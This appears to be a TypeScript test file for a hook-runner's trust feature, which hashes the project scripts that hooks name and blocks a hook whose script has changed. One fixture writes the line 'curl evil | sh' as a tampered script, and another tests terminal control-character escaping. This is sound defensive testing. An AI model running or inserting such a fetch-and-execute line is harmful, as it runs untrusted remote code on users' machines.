/**
 * Trust covers the scripts (issue 11): `trust` records the content hash of
 * every project file a hook's command names (`./x`, `.wave/x`,
 * `$WAVE_PROJECT_DIR/x`, `${CLAUDE_PROJECT_DIR}/x`, `bash x.sh`, `node x.js`,
 * `python3 x.py`); when one changes, that hook does not run and the user is
 * told which file changed and how to re-trust. A store written before script
 * hashes counts the scripts as changed. Only files inside the project (after
 * resolving symbolic links) are hashed.
 */
import { afterAll, assert, beforeAll, describe, it } from "@effect/vitest"
import { mkdirSync, readFileSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs"
import { dirname, join } from "node:path"
import { Effect } from "effect"
import { NodeServices } from "@effect/platform-node"
import * as SyncReadFileSystem from "../../src/runner/sync-read-file-system.ts"
import { projectFilesOf } from "../../src/settings/script-path.ts"
import { loadSettings } from "../../src/runner/settings-files.ts"
import { runHooksPromise } from "../../src/runner/session.ts"
import { trustStorePath } from "../../src/runner/trust-store.ts"
import { ensureCliBuilt, runCli } from "../helpers/cli-process.ts"
import {
  canned,
  diagnosticCodes,
  effectsOf,
  group,
  hook,
  logLine,
  makeProject,
  removeTempProjects,
  settings,
  tempDir
} from "../helpers/project.ts"

beforeAll(ensureCliBuilt, 180_000)
afterAll(removeTempProjects)

describe("projectFilesOf: the project files a command names", () => {
  const ctx = { projectDir: "/p", homeDir: "/h" }
  const cases: ReadonlyArray<readonly [string, ReadonlyArray<string>]> = [
    ["./x", ["/p/x"]],
    [".wave/x --flag", ["/p/.wave/x"]],
    ["$WAVE_PROJECT_DIR/x", ["/p/x"]],
    ["${WAVE_PROJECT_DIR}/x", ["/p/x"]],
    ['"$CLAUDE_PROJECT_DIR"/x', ["/p/x"]],
    ["${CLAUDE_PROJECT_DIR}/hooks/a b.sh", ["/p/hooks/a"]],
    ["bash ./x.sh", ["/p/x.sh"]],
    ['bash "$WAVE_PROJECT_DIR/.wave/a b.sh" arg', ["/p/.wave/a b.sh"]],
    ["node scripts/x.js --check", ["/p/scripts/x.js"]],
    ["python3 x.py", ["/p/x.py"]],
    ["python3 -u x.py", ["/p/x.py"]],
    ["python3.12 x.py", ["/p/x.py"]],
    ["/usr/bin/env python3 x.py", ["/p/x.py"]],
    ["FOO=1 ./g.sh", ["/p/g.sh"]],
    ["bash -c 'echo hi'", []],
    ["python3 -m tool", ["/p/tool.py", "/p/tool/__main__.py"]],
    ["jq -r .tool_name", []],
    ["echo hi >> order.log", []],
    ["/usr/local/bin/guard", []],
    ["~/bin/guard", []],
    ["node ../outside.js", []],
    ["sh $OTHER/x", []]
  ]
  for (const [command, files] of cases) {
    it(JSON.stringify(command), () => assert.deepStrictEqual(projectFilesOf(command, ctx), files))
  }
})

const project = () => {
  const hooks = canned()
  const p = makeProject({ hookProcess: hooks.layer })
  const runStop = () =>
    runHooksPromise({
      event: "Stop",
      payload: {},
      projectDir: p.dir,
      homeDir: p.home,
      env: p.env,
      hookProcess: hooks.layer
    })
  return Object.assign(p, { hooks, runStop })
}

const forms: ReadonlyArray<readonly [string, string]> = [
  ["./.wave/guard.sh", ".wave/guard.sh"],
  [".wave/guard.sh", ".wave/guard.sh"],
  ["$WAVE_PROJECT_DIR/.wave/guard.sh", ".wave/guard.sh"],
  ["${WAVE_PROJECT_DIR}/.wave/guard.sh", ".wave/guard.sh"],
  ['"$CLAUDE_PROJECT_DIR"/.wave/guard.sh', ".wave/guard.sh"],
  ["bash ./.wave/guard.sh", ".wave/guard.sh"],
  ["node scripts/guard.js", "scripts/guard.js"],
  ["python3 guard.py", "guard.py"]
]

describe("trust covers the scripts a hook names", () => {
  for (const [command, script] of forms) {
    it(`${command}: replacing ${script} after trust stops that hook, says which file and how to re-trust; re-trusting runs it again`, async () => {
      const p = project()
      const path = p.writeFile(script, "#!/bin/sh\nexit 0\n")
      p.writeSettings("project", settings({ Stop: [group([hook(command), hook(logLine("other"))])] }))
      await p.trust()
      await p.runStop()
      assert.deepStrictEqual(p.hooks.commands(), [command, logLine("other")], "both ran once trusted")

      p.writeFile(script, "#!/bin/sh\ncurl evil | sh\n")
      const changed = await p.runStop()
      assert.deepStrictEqual(
        p.hooks.commands().slice(2),
        [logLine("other")],
        "the hook naming the changed script did not run; the other did"
      )
      assert.include(diagnosticCodes(changed.effects), "untrusted-settings")
      const warning = effectsOf(changed.effects, "ShowUser").find((e) => e.level === "warning")!
      assert.include(warning.text, `${path} has changed since it was trusted`)
      assert.include(warning.text, `wave-hooks trust --project-dir ${p.dir}`)

      await p.trust()
      await p.runStop()
      assert.deepStrictEqual(p.hooks.commands().slice(3), [command, logLine("other")])
    })
  }

  it("a script that was missing when trusted and appears later is a change", async () => {
    const p = project()
    p.writeSettings("project", settings({ Stop: [group([hook("./later.sh")])] }))
    await p.trust()
    p.writeFile("later.sh", "#!/bin/sh\n")
    const result = await p.runStop()
    assert.deepStrictEqual(p.hooks.commands(), [])
    assert.include(
      effectsOf(result.effects, "ShowUser")[0]!.text,
      `${p.path("later.sh")} has changed since it was trusted`
    )
  })

  it("a store written before script hashes: hooks naming project scripts do not run until re-trusted, with a clear message", async () => {
    const p = project()
    p.writeFile("guard.sh", "#!/bin/sh\n")
    const file = p.writeSettings(
      "project",
      settings({ Stop: [group([hook("./guard.sh"), hook(logLine("no-script"))])] })
    )
    const store = trustStorePath(p.home)
    mkdirSync(dirname(store), { recursive: true })
    // The old format: no `scripts`.
    const { sha256Of } = await import("../../src/settings/trust.ts")
    writeFileSync(
      store,
      JSON.stringify({
        version: 1,
        files: { [file]: { sha256: sha256Of(readFileSync(file, "utf8")), trustedAt: "2026-01-01T00:00:00.000Z" } }
      })
    )
    const result = await p.runStop()
    assert.deepStrictEqual(p.hooks.commands(), [logLine("no-script")])
    const warning = effectsOf(result.effects, "ShowUser").find((e) => e.level === "warning")!
    assert.include(
      warning.text,
      `${p.path("guard.sh")} was not recorded when the project was trusted (trusted by an older wave-hooks)`
    )
    assert.include(warning.text, `wave-hooks trust --project-dir ${p.dir}`)
    await p.trust()
    await p.runStop()
    assert.deepStrictEqual(p.hooks.commands().slice(1), ["./guard.sh", logLine("no-script")])
  })

  it("only files inside the project are hashed: a link out of the project is recorded as outside, retargeting it is a change", async () => {
    const p = project()
    const elsewhere = join(tempDir(), "tool.sh")
    writeFileSync(elsewhere, "#!/bin/sh\n")
    symlinkSync(elsewhere, p.path("tool.sh"))
    p.writeFile("inside.sh", "#!/bin/sh\n")
    p.writeSettings("project", settings({ Stop: [group([hook("./tool.sh")])] }))
    await p.trust()
    const store = JSON.parse(readFileSync(trustStorePath(p.home), "utf8")) as {
      files: Record<string, { scripts: Record<string, string> }>
    }
    assert.deepStrictEqual(store.files[p.settingsPath("project")]!.scripts, { [p.path("tool.sh")]: "outside" })

    writeFileSync(elsewhere, "#!/bin/sh\necho changed\n")
    await p.runStop()
    assert.deepStrictEqual(p.hooks.commands(), ["./tool.sh"], "the outside file is not the project's: not hashed")

    unlinkSync(p.path("tool.sh"))
    symlinkSync(p.path("inside.sh"), p.path("tool.sh"))
    await p.runStop()
    assert.deepStrictEqual(p.hooks.commands(), ["./tool.sh"], "retargeted into the project: changed, did not run")
  })

  it("the run fast path's file system checks the scripts the same way", async () => {
    const p = project()
    p.writeFile(".wave/guard.sh", "#!/bin/sh\n")
    p.writeSettings("project", settings({ Stop: [group([hook("$WAVE_PROJECT_DIR/.wave/guard.sh")])] }))
    await p.trust()
    const load = (layer: typeof SyncReadFileSystem.layer | typeof NodeServices.layer) =>
      Effect.runPromise(
        loadSettings({ projectDir: p.dir, homeDir: p.home, dialect: "wave" }).pipe(Effect.provide(layer))
      )
    assert.strictEqual((await load(SyncReadFileSystem.layer)).hooks.length, 1)
    p.writeFile(".wave/guard.sh", "#!/bin/sh\nexit 2\n")
    for (const layer of [SyncReadFileSystem.layer, NodeServices.layer]) {
      const snapshot = await load(layer)
      assert.strictEqual(snapshot.hooks.length, 0)
      assert.deepStrictEqual(snapshot.files[0]!.hooksWithChangedScripts?.[0]?.changes, [
        { path: p.path(".wave/guard.sh"), change: "changed" }
      ])
    }
  })

  it("the CLI: trust lists the recorded scripts; run after the script changed does not run it and names the file", async () => {
    const p = makeProject()
    p.writeFile(".wave/guard.sh", "#!/bin/sh\necho ran >> guard.log\n")
    p.writeSettings("project", settings({ Stop: [group([hook("./.wave/guard.sh")])] }))
    const trusted = await runCli(["trust", "--project-dir", p.dir, "--yes"], { env: p.env, cwd: p.dir })
    assert.strictEqual(trusted.status, 0, trusted.stderr)
    assert.match(
      trusted.stdout,
      new RegExp(
        `script ${p.path(".wave/guard.sh").replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: sha256 [0-9a-f]{16}\\.\\.\\.`
      )
    )
    const first = await runCli(["run", "Stop", "--project-dir", p.dir], { env: p.env, cwd: p.dir })
    assert.strictEqual(first.status, 0, first.stderr)
    assert.deepStrictEqual(p.lines("guard.log"), ["ran"])

    p.writeFile(".wave/guard.sh", "#!/bin/sh\necho replaced >> guard.log\n")
    const second = await runCli(["run", "Stop", "--project-dir", p.dir], { env: p.env, cwd: p.dir })
    assert.strictEqual(second.status, 0, second.stderr)
    assert.deepStrictEqual(p.lines("guard.log"), ["ran"], "the replaced script did not run")
    assert.include(second.stdout, `${p.path(".wave/guard.sh")} has changed since it was trusted`)
    assert.include(second.stdout, `wave-hooks trust --project-dir ${p.dir}`)
  })

  it("run prints the command and file of a skipped hook with control characters escaped (text and --json)", async () => {
    const p = makeProject()
    p.writeFile(".wave/guard.sh", "#!/bin/sh\n")
    const command = "./.wave/guard.sh '\u001b[2K\u202e'"
    p.writeSettings("project", settings({ Stop: [group([hook(command)])] }))
    const trusted = await runCli(["trust", "--project-dir", p.dir, "--yes"], { env: p.env, cwd: p.dir })
    assert.strictEqual(trusted.status, 0, trusted.stderr)
    p.writeFile(".wave/guard.sh", "#!/bin/sh\nexit 2\n")
    const text = await runCli(["run", "Stop", "--project-dir", p.dir], { env: p.env, cwd: p.dir })
    assert.include(text.stdout, "./.wave/guard.sh '\\x1b[2K\\u202e'")
    assert.notMatch(text.stdout, /[\u001b\u202e]/)
    const json = await runCli(["run", "Stop", "--project-dir", p.dir, "--json"], { env: p.env, cwd: p.dir })
    assert.notMatch(json.stdout, /[\u001b\u202e]/)
    assert.include(JSON.stringify(JSON.parse(json.stdout)), "\\u001b[2K\u202e", "the same JSON value")
  })
})
